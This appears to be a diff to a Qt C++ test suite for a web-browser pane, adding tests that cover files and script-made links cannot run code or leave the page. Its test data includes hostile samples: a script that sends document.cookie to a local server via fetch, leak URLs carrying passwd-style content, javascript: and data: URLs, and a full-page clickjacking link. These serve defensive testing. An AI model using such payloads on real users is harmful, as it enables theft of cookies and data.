@@ -5,9 +5,11 @@
 #include "WebPage.h"
 
 #include <QApplication>
+#include <QBuffer>
 #include <QClipboard>
 #include <QFile>
 #include <QImage>
+#include <QLabel>
 #include <QMenu>
 #include <QPdfDocument>
 #include <QPrintDialog>
@@ -20,6 +22,7 @@
 #include <QTimer>
 #include <QWebEngineSettings>
 #include <QWebEngineView>
+#include <QWindow>
 #include <QtTest>
 
 namespace {
@@ -223,17 +226,35 @@ private:
         if (!loaded.wait(kLoadTimeoutMs) || !loaded.last().at(1).toBool()) {
             return false;
         }
-        // The page learns its covers just after the load; wait until it has. A load that a late stop of the row
-        // before cut short is asked for again by the pane, so the page counts as shown once the engine holds all of
-        // it, not at the first completion.
-        const QString cover = QUrl::fromLocalFile(m_coverPath).toString(QUrl::FullyEncoded);
+        // A load that a late stop of the row before cut short is asked for again by the pane, so the page counts as
+        // shown once the engine holds all of it, not at the first completion.
         return QTest::qWaitFor(
             [&] {
-                return m_browser->webPage()->coverUrls().contains(cover) &&
-                       m_browser->LocationURL() == QUrl::fromLocalFile(path) &&
+                return m_browser->LocationURL() == QUrl::fromLocalFile(path) &&
                        Js(QStringLiteral("document.readyState")).toString() == QLatin1String("complete");
             },
             10000);
+    }
+
+    // The middle of the element with the id, in the pane's page surface.
+    QPoint ElementCentre(const QString& id)
+    {
+        const QVariantList box =
+            Js(QStringLiteral("(function () { var e = document.getElementById('%1'); e.scrollIntoView(); "
+                              "var r = e.getBoundingClientRect(); return [r.left + r.width / 2, r.top + r.height / 2]; "
+                              "})()")
+                   .arg(id))
+                .toList();
+        return box.size() == 2 ? QPoint(qRound(box.at(0).toDouble()), qRound(box.at(1).toDouble())) : QPoint(-1, -1);
+    }
+
+    // A left click as the window system delivers it: to the pane's window, at a point of widget.
+    void ClickWindow(const QPoint& at, QWidget* widget)
+    {
+        QWindow* window = m_browser->window()->windowHandle();
+        QVERIFY(window);
+        const QPoint inWindow = widget->mapTo(m_browser->window(), at);
+        QTest::mouseClick(window, Qt::LeftButton, Qt::NoModifier, inWindow);
     }
 
     QString Display(int id)
@@ -458,21 +479,22 @@ private slots:
     {
         QTest::addColumn<QString>("element");
         QTest::addColumn<QString>("opened"); // path of the address handed to the desktop, or empty
-        QTest::addColumn<bool>("follows");   // the pane leaves the page
+        QTest::addColumn<bool>("picture");   // the pane shows the target as a picture in place of the page
 
         QTest::newRow("website link with target") << "site"
                                                   << "/site" << false;
         QTest::newRow("plain web link") << "plain"
                                         << "/plain" << false;
         QTest::newRow("cover") << "cover" << QString() << true;
-        QTest::newRow("other local file") << "other" << QString() << false;
+        // Another local file the page links is never a document: it shows as a picture that cannot be shown.
+        QTest::newRow("other local file") << "other" << QString() << true;
         QTest::newRow("other scheme") << "ftp" << QString() << false;
     }
     void linkClicks()
     {
         QFETCH(QString, element);
         QFETCH(QString, opened);
-        QFETCH(bool, follows);
+        QFETCH(bool, picture);
 
         const QVariantList box =
             Js(QStringLiteral("(function () { var e = document.getElementById('%1'); e.scrollIntoView(); "
@@ -485,12 +507,14 @@ private slots:
 
         QSignalSpy refused(m_browser->webPage(), &WebPage::navigationRefused);
         QSignalSpy outside(m_browser->webPage(), &WebPage::externalUrlOpened);
+        QSignalSpy shown(m_browser->webPage(), &WebPage::pictureRequested);
         QSignalSpy loaded(m_browser, &WebBrowser::DocumentComplete);
         QWidget* surface = m_browser->view()->focusProxy();
         QVERIFY(surface);
         QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier, at);
 
-        QVERIFY(QTest::qWaitFor([&] { return refused.size() + outside.size() + loaded.size() > 0; }, 10000));
+        QVERIFY(
+            QTest::qWaitFor([&] { return refused.size() + outside.size() + shown.size() + loaded.size() > 0; }, 10000));
         if (opened.isEmpty()) {
             QVERIFY(m_opened.isEmpty());
         } else {
@@ -498,13 +522,118 @@ private slots:
             QCOMPARE(m_opened.first().path(), opened);
             QCOMPARE(m_opened.first().host(), QStringLiteral("127.0.0.1"));
         }
-        if (follows) {
-            QVERIFY(loaded.size() > 0 || loaded.wait(kLoadTimeoutMs));
-            QCOMPARE(m_browser->LocationURL(), QUrl::fromLocalFile(m_coverPath));
-        } else {
-            QCOMPARE(m_browser->LocationURL(), QUrl::fromLocalFile(m_pagePath));
-            QCOMPARE(loaded.size(), 0);
+        QCOMPARE(m_browser->pictureView()->isVisible(), picture);
+        QCOMPARE(m_browser->LocationURL(), QUrl::fromLocalFile(m_pagePath));
+        QCOMPARE(loaded.size(), 0);
+        QVERIFY(!m_server.hasPendingConnections());
+        if (picture) {
+            // A click on the picture goes back to the page.
+            ClickWindow(m_browser->pictureView()->rect().center(), m_browser->pictureView());
+            QTRY_VERIFY(!m_browser->pictureView()->isVisible());
+            QVERIFY(m_browser->view()->isVisible());
         }
+    }
+
+    // A cover file may hold anything: a click on it shows it as a picture, never as a document, and whatever
+    // script it carries never runs (it would reach the loopback site or the desktop's opener).
+    void coverClickShowsPictureAndRunsNoScript_data()
+    {
+        QTest::addColumn<QByteArray>("bytes");
+        QTest::addColumn<QString>("name");
+        QTest::addColumn<bool>("drawn"); // a picture is drawn; else the pane says it cannot show one
+
+        const QByteArray script = "<script>try { fetch('SITE/fetched?' + document.cookie); } catch (e) {}"
+                                  "document.title = 'ran'; location.href = 'SITE/left';</script>";
+        QTest::newRow("document") << QByteArray("<HTML><BODY>cover" + script + "</BODY></HTML>") << "FrontCover.html"
+                                  << false;
+        QTest::newRow("drawing with script")
+            << QByteArray("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"40\">"
+                          "<script>location.href = 'SITE/svg';</script><rect width=\"40\" height=\"40\"/></svg>")
+            << "FrontCover.svg" << false;
+        QTest::newRow("picture header with a document")
+            << QByteArray("GIF89a\x01\x00\x01\x00" + script) << "BackCover.html" << false;
+        QByteArray png;
+        QBuffer buffer(&png);
+        buffer.open(QIODevice::WriteOnly);
+        QImage image(30, 40, QImage::Format_RGB32);
+        image.fill(Qt::darkGreen);
+        image.save(&buffer, "PNG");
+        QTest::newRow("picture") << png << "FrontCover.png" << true;
+    }
+    void coverClickShowsPictureAndRunsNoScript()
+    {
+        QFETCH(QByteArray, bytes);
+        QFETCH(QString, name);
+        QFETCH(bool, drawn);
+
+        const QString site = QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort());
+        QDir(m_dir.path()).mkpath(QStringLiteral("item"));
+        const QString cover = m_dir.filePath(QStringLiteral("item/") + name);
+        QVERIFY(SafeFile::Write(cover, bytes.replace("SITE", site.toLatin1())));
+        const QString coverUrl = QUrl::fromLocalFile(cover).toString(QUrl::FullyEncoded);
+        const QString page = m_dir.filePath(QStringLiteral("E7.html"));
+        QVERIFY(WriteText(page, ItemPage(coverUrl)));
+        const int blockedBefore = m_browser->interceptor()->blockedCount();
+        QVERIFY(Show(page));
+        // As an image in the page, only a picture is read: anything else never reaches the engine.
+        QCOMPARE(Js(QStringLiteral("document.images[0].naturalWidth")).toInt(), drawn ? 30 : 0);
+        QCOMPARE(m_browser->interceptor()->blockedCount() > blockedBefore, !drawn);
+
+        QSignalSpy refused(m_browser->webPage(), &WebPage::navigationRefused);
+        QSignalSpy shown(m_browser->webPage(), &WebPage::pictureRequested);
+        QSignalSpy loaded(m_browser, &WebBrowser::DocumentComplete);
+        ClickWindow(ElementCentre(QStringLiteral("cover")), m_browser->view()->focusProxy());
+        QVERIFY(shown.wait(10000) || shown.size() == 1);
+        QVERIFY(m_browser->pictureView()->isVisible());
+        QCOMPARE(!m_browser->pictureView()->pixmap().isNull(), drawn);
+        QCOMPARE(m_browser->pictureView()->text().isEmpty(), drawn);
+
+        // Give a script that might have run the time to show itself.
+        QTest::qWait(500);
+        QCOMPARE(loaded.size(), 0);
+        QCOMPARE(m_browser->LocationURL(), QUrl::fromLocalFile(page));
+        QCOMPARE(m_browser->webPage()->title() == QLatin1String("ran"), false);
+        QVERIFY(m_opened.isEmpty());
+        QVERIFY(!m_server.hasPendingConnections());
+    }
+
+    // A link the page's markup did not write leads nowhere, however the user clicks it: a script's page-wide link
+    // hands nothing to the desktop, and no other document, inline data or script address loads.
+    void linksMadeByScriptAreRefused_data()
+    {
+        QTest::addColumn<QString>("href");
+        QTest::newRow("web site with what the script read") << "SITE/leak?root:x:0:0";
+        QTest::newRow("the page's own web link with more added") << "SITE/site#root:x:0:0";
+        QTest::newRow("another local document") << "SECRET";
+        QTest::newRow("inline data") << "data:text/html,<script>location.href='SITE/data'</script>";
+        QTest::newRow("script address") << "javascript:location.href='SITE/js'";
+    }
+    void linksMadeByScriptAreRefused()
+    {
+        QFETCH(QString, href);
+        const QString site = QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort());
+        href.replace(QLatin1String("SITE"), site)
+            .replace(QLatin1String("SECRET"), QUrl::fromLocalFile(m_dir.filePath("secret.html")).toString());
+        // What a foreign script would do: a link over the whole page, waiting for the user's next click.
+        QVERIFY(Js(QStringLiteral("(function () { var a = document.createElement('a'); a.id = 'trap'; a.href = %1;"
+                                  "a.style.cssText = 'position:fixed;left:0;top:0;width:100%;height:100%;"
+                                  "display:block;z-index:99;background:transparent';"
+                                  "document.body.appendChild(a); return true; })()")
+                       .arg(QStringLiteral("decodeURIComponent('%1')")
+                                .arg(QString::fromLatin1(QUrl::toPercentEncoding(href)))))
+                    .toBool());
+
+        QSignalSpy refused(m_browser->webPage(), &WebPage::navigationRefused);
+        QSignalSpy shown(m_browser->webPage(), &WebPage::pictureRequested);
+        QSignalSpy loaded(m_browser, &WebBrowser::DocumentComplete);
+        QWidget* surface = m_browser->view()->focusProxy();
+        ClickWindow(QPoint(surface->width() / 2, surface->height() / 2), surface);
+        // A script address gives no signal at all, so give the engine a moment either way.
+        refused.wait(1500);
+        QVERIFY(m_opened.isEmpty());
+        QCOMPARE(shown.size(), 0);
+        QCOMPARE(loaded.size(), 0);
+        QCOMPARE(m_browser->LocationURL(), QUrl::fromLocalFile(m_pagePath));
         QVERIFY(!m_server.hasPendingConnections());
     }
 
@@ -650,6 +779,38 @@ private slots:
         QVERIFY(!m_browser->isPrinting());
         QVERIFY(QApplication::activeModalWidget() == nullptr);
         QVERIFY(QApplication::overrideCursor() == nullptr);
+    }
+
+    // A cover declaring 20,000 x 20,000 pixels (a small file) never reaches the engine's decoder: the page and its
+    // preview show it as a missing picture, and the preview opens and closes as for any page.
+    void previewOfHugeCoverShowsItMissing()
+    {
+        QDir(m_dir.path()).mkpath(QStringLiteral("huge"));
+        const QString cover = m_dir.filePath(QStringLiteral("huge/FrontCover.png"));
+        {
+            QImage huge(20000, 20000, QImage::Format_Mono);
+            huge.fill(0);
+            QVERIFY(huge.save(cover, "PNG"));
+        }
+        const QString page = m_dir.filePath(QStringLiteral("M99.html"));
+        QVERIFY(WriteText(page, ItemPage(QUrl::fromLocalFile(cover).toString(QUrl::FullyEncoded))));
+        const int blockedBefore = m_browser->interceptor()->blockedCount();
+        QVERIFY(Show(page));
+        QCOMPARE(Js(QStringLiteral("document.images[0].naturalWidth")).toInt(), 0);
+        QVERIFY(m_browser->interceptor()->blockedCount() > blockedBefore);
+
+        int pages = 0;
+        bool seen = false;
+        AnswerModal<PrintPreview>(
+            [&pages](PrintPreview* dialog) {
+                pages = dialog->pageCount();
+                return pages > 0;
+            },
+            &seen);
+        QVERIFY(m_browser->ExecWB(WebBrowser::OLECMDID_PRINTPREVIEW, WebBrowser::OLECMDEXECOPT_DODEFAULT));
+        QVERIFY(seen);
+        QVERIFY(pages >= 1);
+        QVERIFY(!m_browser->isPrinting());
     }
 
     // The preview holds every page of a long item, the very pages a PDF file gets, and each can be shown.
